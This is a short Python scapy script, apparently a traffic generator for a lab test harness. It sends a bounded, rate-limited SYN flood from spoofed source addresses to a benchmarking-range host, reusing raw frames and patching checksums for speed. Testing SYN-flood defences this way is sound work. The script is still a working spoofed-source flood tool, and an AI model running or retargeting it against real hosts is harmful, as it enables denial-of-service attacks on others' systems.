#!/usr/bin/python3
"""Runs in the lab namespace: COUNT SYNs to 198.18.0.2:80 from spoofed 198.18.2.0/23 sources, bounded by SECONDS."""
import socket
import struct
import sys
import time

from scapy.all import IP, TCP, Ether, conf, get_if_hwaddr, getmacbyip, sendp

conf.verb = 0
count, seconds = int(sys.argv[1]), float(sys.argv[2])
gw_mac = getmacbyip("198.18.0.2")
me = get_if_hwaddr("ag0")
# build frames once, send them raw: scapy's per-packet cost would be the bottleneck
frames = []
for i in range(512):
    src = f"198.18.{2 + (i >> 8)}.{i & 255}"
    frames.append(bytes(Ether(src=me, dst=gw_mac) / IP(src=src, dst="198.18.0.2") /
                        TCP(sport=1024 + i, dport=80, flags="S", seq=i * 7919)))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("ag0", 0))
t0 = time.time()
sent = 0
while sent < count and time.time() - t0 < seconds:
    f = bytearray(frames[sent % len(frames)])
    # vary the source port so every SYN is a new half-open connection
    struct.pack_into("!H", f, 34, 1024 + (sent % 60000))
    # TCP checksum changes with the port: adjust it incrementally (RFC 1624)
    old = struct.unpack_from("!H", frames[sent % len(frames)], 34)[0]
    new = 1024 + (sent % 60000)
    ck = struct.unpack_from("!H", f, 50)[0]
    x = (~ck & 0xFFFF) + (~old & 0xFFFF) + new
    x = (x & 0xFFFF) + (x >> 16)
    x = (x & 0xFFFF) + (x >> 16)
    struct.pack_into("!H", f, 50, ~x & 0xFFFF)
    s.send(f)
    sent += 1
    if sent % 2000 == 0:
        time.sleep(0.05)  # a bounded rate: the flood shares two cores with the clients
print(sent)
